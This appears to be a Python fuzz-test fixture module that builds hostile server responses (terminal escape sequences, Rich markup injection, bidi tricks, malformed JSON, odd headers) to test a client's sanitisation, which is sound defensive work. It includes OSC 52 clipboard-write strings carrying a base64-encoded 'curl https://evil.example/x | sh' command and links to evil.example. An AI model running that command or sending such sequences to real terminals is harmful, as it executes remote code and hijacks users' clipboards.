"""Hostile server data for the fuzz tests: strings that attack terminals and markup, JSON of the wrong shape,
bodies that are not JSON at all."""

from __future__ import annotations

import base64
import json
import re
from typing import Any

from hypothesis import strategies as st

_OSC52_PAYLOAD = base64.b64encode(b"curl https://evil.example/x | sh\n").decode()

#: Strings a hostile or broken server might send, each aimed at one weakness.
HOSTILE_STRINGS: tuple[str, ...] = (
    # OSC 52 (write the clipboard), BEL- and ST-terminated, 7- and 8-bit, and unterminated
    f"\x1b]52;c;{_OSC52_PAYLOAD}\x07",
    f"reply\x1b]52;c;{_OSC52_PAYLOAD}\x1b\\done",
    f"\x9d52;c;{_OSC52_PAYLOAD}\x9c",
    f"\x1b]52;p;{_OSC52_PAYLOAD}",
    # OSC 8 hyperlink, OSC 0 title
    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "\x1b]0;pwned title\x07",
    # CSI: colours, clear screen, cursor moves, device status report, 8-bit CSI
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H\x1b[3J",
    "\x1b[6n\x1b[c",
    "\x9b31mred\x9b0m",
    "\x1b[?1049h\x1b[?25l",
    # DCS / APC / PM / SOS, other escapes
    "\x1bP+q544e\x1b\\",
    "\x1b_Gf=100;AAAA\x1b\\",
    "\x1b^privacy\x1b\\",
    "\x1bXsos\x1b\\",
    "\x1bc",
    "\x1b(0lqk\x1b(B",
    "\x1b",
    "\x1b[",
    "\x1b]",
    # Rich / Textual markup
    "[bold]",
    "[/",
    "[/]",
    "[/bold]",
    "[link=https://evil.example]click[/link]",
    "[@click=app.quit]quit[/]",
    "[red on red]hidden",
    "\\[escaped]",
    # bidi overrides, zero-width, line and paragraph separators, NUL, CR tricks, BOM
    "\u202eevil\u202c.txt",
    "\u2066isolate\u2069",
    "\u200fRLM\u200e",
    "zero\u200bwidth\u200c\u200d\ufeff",
    "line\u2028sep\u2029para",
    "nul\x00byte",
    "over\rwrite",
    "tab\there\nnewline\r\n",
    "\x7f\x85\x9f",
    "\x07bell",
    # lone surrogates (valid JSON escapes, invalid UTF-8), emoji, combining marks
    "\ud800lone",
    "\U0001f4a5 boom \u0301\u0301\u0301",
    "",
    " ",
    "ready",
    "active",
)

#: States a server might invent, plus real ones in odd spellings.
ODD_STATES: tuple[str, ...] = (
    "ACTIVE",
    " active ",
    "Ready",
    "deleting",
    "Deleted",
    "undeleting",
    "hibernating",
    "provisioning",
    "failed",
    "error",
    "\x1b[32mready\x1b[0m",
    "[bold]ready[/]",
    "",
    "destroyed",
    "stopped",
    "requested",
)

_CONTROL_RE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def has_terminal_control(text: str, *, allow_newlines: bool = False) -> bool:
    """True when ``text`` still carries a C0/C1 control, DEL, bidi override, or (unless allowed) a line break
    or tab: anything a terminal would act on rather than print."""
    if _CONTROL_RE.search(text):
        return True
    return not allow_newlines and any(c in text for c in "\n\t\r\u2028\u2029")


small_text = st.text(max_size=40)
hostile_text = st.one_of(
    st.sampled_from(HOSTILE_STRINGS),
    small_text,
    # several hostile pieces glued together, with ordinary text around them
    st.lists(st.one_of(st.sampled_from(HOSTILE_STRINGS), small_text), min_size=2, max_size=6).map("".join),
)
#: ~100 KB strings, built by repetition so generating them stays cheap.
huge_text = st.builds(
    lambda piece, n: (piece or "x") * (100_000 // max(1, len(piece or "x")) + n),
    st.sampled_from(HOSTILE_STRINGS),
    st.integers(0, 10),
)
#: Mostly hostile text, now and then a huge string (they cost real parsing time, so not too often).
any_text = st.one_of(hostile_text, hostile_text, hostile_text, hostile_text, hostile_text, huge_text)

json_scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=False, allow_infinity=False),
    hostile_text,
)
json_values = st.recursive(
    json_scalars,
    lambda children: st.one_of(
        st.lists(children, max_size=4),
        st.dictionaries(st.one_of(small_text, st.sampled_from(HOSTILE_STRINGS)), children, max_size=4),
    ),
    max_leaves=12,
)

AMIKA_FIELDS = (
    "id",
    "name",
    "state",
    "user_id",
    "org_id",
    "provider",
    "repo_url",
    "repo_name",
    "branch",
    "error_message",
    "status",
    "created_at",
    "updated_at",
    "services",
    "secret_names",
    "created_by",
    "has_workflow",
    "resolved_agent_credentials",
    "current_session_id",
    # SSHInfo / AgentSendResult / Session / Secret / ProviderSecret
    "ssh_destination",
    "token",
    "expires_at",
    "response",
    "session_id",
    "is_error",
    "is_new_session",
    "cost_usd",
    "agent_name",
    "sandbox_id",
    "started_at",
    "ended_at",
    "metadata",
    "scope",
    "type",
    "description",
)
DEVBOX_FIELDS = (
    "id",
    "name",
    "state",
    "created_at",
    "access_url",
    # Operation / DevboxRepository / AccessSession / ExecSession
    "step",
    "status",
    "message",
    "installation_id",
    "repo_id",
    "full_name",
    "ref",
    "target_path",
    "clone_status",
    "clone_error",
    "session_id",
    "expires_at",
    "command",
    "ssh",
    "workdir",
    "created",
    "is_active",
    "tty",
    "last_activity",
    "bytes_per_second",
    # profile / GitHub
    "has_ssh_key",
    "authorize_url",
    "github_login",
    "github_user_id",
    "connected_at",
    "default_branch",
    "private",
    "granted",
    "org_login",
    "selected_count",
)

_SSH_OBJECT = st.fixed_dictionaries(
    {},
    optional={
        k: json_values
        for k in (
            "host",
            "port",
            "username",
            "workspace_path",
            "host_key_fingerprint",
            "proxy_command",
            "ssh_port",
            "proxy_host",
        )
    },
)


def record(fields: tuple[str, ...]) -> st.SearchStrategy[dict[str, Any]]:
    """A JSON object shaped like a model: known fields with any type (mostly hostile text), extra fields."""
    value = st.one_of(any_text, any_text, json_values, st.sampled_from(ODD_STATES))
    optional: dict[str, st.SearchStrategy[Any]] = {name: value for name in fields}
    optional["state"] = st.one_of(st.sampled_from(ODD_STATES), value)
    optional["created_by"] = st.one_of(
        json_values, st.fixed_dictionaries({}, optional={"name": value, "email": value})
    )
    optional["services"] = st.one_of(
        json_values, st.lists(st.dictionaries(small_text, value, max_size=4), max_size=3)
    )
    optional["ssh"] = st.one_of(json_values, _SSH_OBJECT)
    return st.fixed_dictionaries({}, optional=optional).flatmap(
        lambda known: st.dictionaries(small_text, json_values, max_size=3).map(
            lambda extra: {**extra, **known}
        )
    )


def _documents(fields: tuple[str, ...]) -> st.SearchStrategy[Any]:
    rec = record(fields)
    return st.one_of(
        rec,
        st.lists(rec, max_size=5),
        st.lists(st.one_of(rec, json_values), max_size=5),
        st.fixed_dictionaries({"data": st.one_of(st.lists(rec, max_size=4), json_values)}),
        st.fixed_dictionaries(
            {"sessions": st.one_of(st.lists(rec, max_size=4), json_values), "total": json_values}
        ),
        json_values,
    )


def _truncate(text: str, cut: float) -> str:
    return text[: max(0, min(len(text) - 1, int(len(text) * cut)))]


def bodies(fields: tuple[str, ...]) -> st.SearchStrategy[bytes]:
    """Response bodies: JSON documents of every shape, truncated JSON, non-JSON text and raw bytes."""
    docs = _documents(fields)
    as_json = docs.map(lambda d: json.dumps(d, ensure_ascii=False).encode("utf-8", "surrogatepass"))
    return st.one_of(
        as_json,
        as_json,
        as_json,
        docs.map(lambda d: json.dumps(d, ensure_ascii=True).encode()),
        st.tuples(docs.map(lambda d: json.dumps(d)), st.floats(0, 1)).map(lambda t: _truncate(*t).encode()),
        st.sampled_from(
            [
                b"",
                b" ",
                b"null",
                b"true",
                b"0",
                b"-1e999",
                b'"str"',
                b"NaN",
                b"[]",
                b"{}",
                b"<html><body>502 Bad Gateway</body></html>",
                b"\xff\xfe\xfd",
                b'{"a": 1,}',
                b"[" * 50_000,
                b'{"a":' * 50_000,
                b'{"id": 1' + b"0" * 5000 + b"}",
            ]
        ),
        st.binary(max_size=64),
        any_text.map(lambda s: s.encode("utf-8", "surrogatepass")),
    )


statuses = st.one_of(
    st.just(200),
    st.just(200),
    st.sampled_from([201, 202, 204, 206]),
    st.integers(min_value=100, max_value=599),
)

_HEADER_VALUE = st.text(st.characters(min_codepoint=0x20, max_codepoint=0x7E), max_size=40)
response_headers = st.fixed_dictionaries(
    {},
    optional={
        "content-type": st.sampled_from(
            [
                "application/json",
                "text/html",
                "application/json; charset=latin-1",
                "application/json; charset=nonexistent",
                "text/plain; charset=utf-16",
                "text/plain; charset=utf-32",
                "text/plain; charset=idna",
                "text/plain; charset=base64",
                "text/plain; charset=rot13",
            ]
        ),
        "retry-after": st.one_of(
            _HEADER_VALUE,
            st.sampled_from(
                [
                    "5",
                    "-3",
                    "1e400",
                    "nan",
                    "inf",
                    "Wed, 21 Oct 2015 07:28:00 GMT",
                    "Mon, 01 Jan 99999 00:00:00 GMT",
                ]
            ),
        ),
        "content-encoding": st.sampled_from(["gzip", "br", "deflate", "identity", "zstd", "bogus"]),
        "location": _HEADER_VALUE,
    },
)
